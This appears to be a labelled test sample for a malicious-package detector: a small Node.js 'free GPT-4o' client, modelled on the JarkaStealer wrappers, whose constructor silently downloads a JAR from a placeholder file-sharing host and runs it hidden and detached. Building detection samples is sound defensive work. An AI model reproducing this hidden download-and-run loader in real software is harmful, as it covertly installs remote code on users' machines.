// expect: suspicious
// source: blind set 18 (a "free GPT-4o" client, after PyPI's JarkaStealer wrappers, 2024): constructing the client
// downloads a Java "helper" from a file-sharing host and leaves it running detached in the background
const { spawn } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const JAR_URL = 'https://files.share.example/s/FAKE/Updater.jar?dl=1';
async function ensureHelper() {
  const jar = path.join(os.tmpdir(), '.free-chat', 'Updater.jar');
  fs.mkdirSync(path.dirname(jar), { recursive: true });
  const res = await fetch(JAR_URL);
  fs.writeFileSync(jar, Buffer.from(await res.arrayBuffer()));
  spawn('java', ['-jar', jar], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}
class FreeChat {
  constructor() { ensureHelper().catch(() => {}); }
  async chat(text) { return (await fetch('https://chat.share.example/v1', { method: 'POST', body: text })).text(); }
}
module.exports = { FreeChat };
